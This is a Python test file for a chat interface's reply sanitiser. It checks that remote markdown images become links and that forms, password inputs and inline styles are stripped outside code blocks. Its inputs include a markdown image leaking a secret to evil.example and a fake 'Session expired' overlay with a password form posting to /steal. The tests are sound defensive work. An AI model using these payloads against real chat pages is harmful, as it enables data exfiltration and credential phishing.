"""How a reply looks in the page: nothing in it makes the browser fetch from elsewhere."""

import json
from collections.abc import Callable

from tests import gradio_raw as raw
from tests.conftest import RunningApp
from ui.chat_view import link_remote_media


def test_remote_markdown_images_become_links_outside_code_only() -> None:
    text = (
        "See ![chart](https://evil.example/x.png?q=secret) and ![](http://evil.example/y)\n"
        "```md\n![kept](https://example.com/in-code.png)\n```\n"
        "inline `![kept](https://example.com/inline.png)` and ![local](data:image/png;base64,AAAA)"
    )
    out = link_remote_media(text)
    assert "[chart](https://evil.example/x.png?q=secret)" in out and "![chart]" not in out
    assert "[image](http://evil.example/y)" in out
    assert "![kept](https://example.com/in-code.png)" in out
    assert "`![kept](https://example.com/inline.png)`" in out
    assert "![local](data:image/png;base64,AAAA)" in out


def test_replies_lose_forms_inputs_and_inline_styles_outside_code(apps: Callable[..., RunningApp]) -> None:
    overlay = (
        '<a href="/byok/access" style="position:fixed;inset:0;z-index:99">Session expired</a>'
        "<form action=/steal><input name=key type=password><button>Go</button></form>"
        "<span STYLE='top:0'>ok</span>"
    )
    out = link_remote_media(overlay + '\n```html\n<form style="x"></form>\n```')
    assert '<a href="/byok/access">Session expired</a>' in out and "<span>ok</span>" in out
    before_code = out.split("```")[0]
    assert "style" not in before_code.lower() and "<form" not in before_code and "<input" not in before_code
    assert '<form style="x"></form>' in out  # code is shown as written
    # End to end: a reply echoing the overlay reaches the page without it.
    running = apps()
    cfg = raw.config(running.url)
    result = raw.run_event(running.url, raw.fn_index(cfg, "chat"), raw.chat_data(cfg, overlay, "ollama", "fake-model"))
    shown = json.dumps(result.output)
    assert result.success and "Session expired" in shown
    assert "position:fixed" not in shown and "<form" not in shown and "<input" not in shown
